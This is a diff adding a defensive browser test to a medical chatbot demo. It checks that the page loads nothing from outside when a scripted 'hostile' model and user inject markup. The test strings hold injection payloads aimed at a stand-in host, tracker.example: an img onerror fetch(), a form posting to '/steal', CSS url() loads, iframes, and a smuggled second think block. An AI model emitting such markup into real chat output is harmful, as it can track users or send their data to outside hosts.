@@ -33,6 +33,28 @@ CHROMIUM_ARGS = [
     "--no-first-run",
 ]
 SCRIPTED_THINK, SCRIPTED_ANSWER = "先判断是否危急", "建议及时就医"
+# A model that tries every way to make the page load something from outside (or show a form), in its
+# thinking, in a second think block and in its answer. Each piece is one added token of the scripted
+# checkpoint, so tags and quotes may repeat inside it.
+OUTSIDE = "http://tracker.example"
+# One token, so the think tags inside it do not repeat the chain's own.
+HOSTILE_THINK = (
+    f'想一想 <img src="{OUTSIDE}/think.png"> ![t]({OUTSIDE}/think-md.png) <a href="{OUTSIDE}/t">t</a>'
+    f"</think>草稿 <img src={OUTSIDE}/draft.png><think>"
+    f'再想 <div style="background:url({OUTSIDE}/css.png)">css</div> <svg><image href="{OUTSIDE}/svg.png"/></svg>'
+)
+HOSTILE_ANSWER = (
+    f'最终回答 <img srcset="{OUTSIDE}/srcset.png 2x" src="{OUTSIDE}/a.png" onerror="fetch(\'{OUTSIDE}/js\')">'
+    f" ![m]({OUTSIDE}/md.png) ![r][ref] [链接]({OUTSIDE}/link) <{OUTSIDE}/autolink>"
+    f'\n\n[ref]: {OUTSIDE}/ref.png\n\n<form action="{OUTSIDE}/steal"><input name="id"><button>提交</button></form>'
+    f"<style>body{{background:url({OUTSIDE}/style.png)}}</style><link rel=stylesheet href={OUTSIDE}/x.css>"
+    f"<iframe src={OUTSIDE}/frame></iframe><video poster={OUTSIDE}/poster.png></video>"
+    f"<picture><source srcset={OUTSIDE}/source.png></picture>"
+)
+HOSTILE_USER = (
+    f'<img src="{OUTSIDE}/user.png"> ![u]({OUTSIDE}/user-md.png) <form action={OUTSIDE}/u><input></form>'
+    f'<p style="background-image:url({OUTSIDE}/user-css.png)">我头痛</p>'
+)
 MAX_INPUT_CHARS = 300
 READY_TIMEOUT_S = 180  # generous: CI shares two cores with everything else
 REPLY_TIMEOUT_MS = 90_000
@@ -55,6 +77,16 @@ def build_lora_adapter(tiny_dir: Path, out: Path) -> Path:
     model = AutoModelForCausalLM.from_pretrained(tiny_dir)
     get_peft_model(model, LoraConfig(r=4, target_modules=["q_proj", "v_proj"])).save_pretrained(out)
     return out
+
+
+# (tag, attribute, text) of every element in the chat whose resource attributes or stylesheet name the
+# outside host (text and aria-labels may quote it: they load nothing).
+NAMING_OUTSIDE = """() => [...document.querySelectorAll('#medqa-chatbot *')].flatMap(e => [
+  ...[...e.attributes]
+    .filter(a => /^(src|srcset|href|xlink:href|action|formaction|poster|style|data|background)$/.test(a.name))
+    .filter(a => a.value.includes('tracker.example')).map(a => [e.tagName, a.name, e.textContent]),
+  ...(e.tagName === 'STYLE' && e.textContent.includes('tracker.example') ? [[e.tagName, '', e.textContent]] : []),
+])"""
 
 
 def free_port() -> int:
@@ -109,6 +141,12 @@ def demo_url(tiny_model_dir, tmp_path_factory) -> Iterator[str]:
         tiny_model_dir, work / "scripted", f"<think>{SCRIPTED_THINK}</think>{SCRIPTED_ANSWER}"
     )
     adapter = build_lora_adapter(tiny_model_dir, work / "lora")
+    hostile = build_scripted_checkpoint(
+        tiny_model_dir,
+        work / "hostile",
+        f"<think>{HOSTILE_THINK}</think>{HOSTILE_ANSWER}",
+        added_tokens=[HOSTILE_THINK, HOSTILE_ANSWER],
+    )
     port = free_port()
     command = [sys.executable, "-m", "medqa.cli", "demo", "--model", f"full={scripted}"]
     command += [
@@ -116,6 +154,8 @@ def demo_url(tiny_model_dir, tmp_path_factory) -> Iterator[str]:
         f"base={tiny_model_dir}",
         "--model",
         f"lora={adapter}",
+        "--model",
+        f"hostile={hostile}",
         "--base",
         str(tiny_model_dir),
     ]
@@ -214,6 +254,76 @@ def test_browser_chat_streams_reasoning_switches_models_stops_and_warns(demo_url
         finally:
             browser.close()
     assert external == [], f"the page tried to reach the network: {external}"
+
+
+@pytest.mark.browser
+def test_browser_loads_nothing_from_outside_for_hostile_model_and_user_text(demo_url):
+    """Images, links, CSS url(), srcset, forms and a second think block, in the answer, the thinking and
+    the user's message: the page makes zero requests to other hosts and shows no form."""
+    if not CHROMIUM.exists():
+        pytest.fail(f"{CHROMIUM} is missing: run `make system-deps` (Debian package `chromium`)")
+    from playwright.sync_api import expect, sync_playwright
+
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    requests: list[str] = []
+    outside: list[str] = []
+
+    def count(route) -> None:
+        requests.append(route.request.url)
+        if route.request.url.startswith(demo_url.rstrip("/")):
+            route.continue_()
+        else:
+            outside.append(route.request.url)
+            route.abort()
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 1400})
+            page.route("**/*", count)
+            response = page.goto(demo_url)
+            assert "img-src 'self'" in response.headers["content-security-policy"]
+            expect(page.locator("#medqa-disclaimer")).to_contain_text("120", timeout=60_000)
+            page.click("#medqa-model input")
+            page.get_by_role("option", name="hostile").click()
+            expect(page.locator("#medqa-model input")).to_have_value("hostile")
+            ask(page, HOSTILE_USER)
+            chat = page.locator("#medqa-chatbot")
+            expect(chat.locator(".bot-row").last).to_contain_text("最终回答", timeout=REPLY_TIMEOUT_MS)
+            wait_until_idle(page)
+            expect(chat).to_contain_text("Several reasoning blocks")  # flagged
+            thought = chat.locator(".thought-group").first
+            thought.locator(".title").click()
+            expect(thought).to_contain_text("想一想")
+            expect(thought).to_contain_text("再想")  # the second block is there too, not hiding the answer
+            expect(chat.locator(".bot-row").last).to_contain_text(
+                '<form action="http://tracker.example/steal">'
+            )
+            expect(chat.locator(".user-row").last).to_contain_text("我头痛")
+            page.wait_for_timeout(1500)  # give lazy images and late fetches their chance
+            for selector in (
+                "img",
+                "[srcset]",
+                "form",
+                "input",
+                "iframe",
+                "video",
+                "picture",
+                "svg image",
+                "link",
+            ):
+                assert chat.locator(f".message-content {selector}").count() == 0, selector
+            # What still names the outside host: only bare URLs, shown as themselves (never fetched).
+            naming = page.evaluate(NAMING_OUTSIDE)
+            print(f"\nelements naming {OUTSIDE}: {naming}")
+            assert all(tag == "A" and text.startswith(OUTSIDE) for tag, _, text in naming), naming
+            screenshot = ARTIFACTS / "demo-hostile.png"
+            page.screenshot(path=str(screenshot), full_page=True)
+            print(f"\nscreenshot: {screenshot}; {len(requests)} requests, all to {demo_url}")
+        finally:
+            browser.close()
+    assert requests, "the route saw no request at all: it would count nothing"
+    assert outside == [], f"the page tried to reach other hosts: {outside}"
 
 
 def test_eight_concurrent_gradio_client_sessions(demo_url):
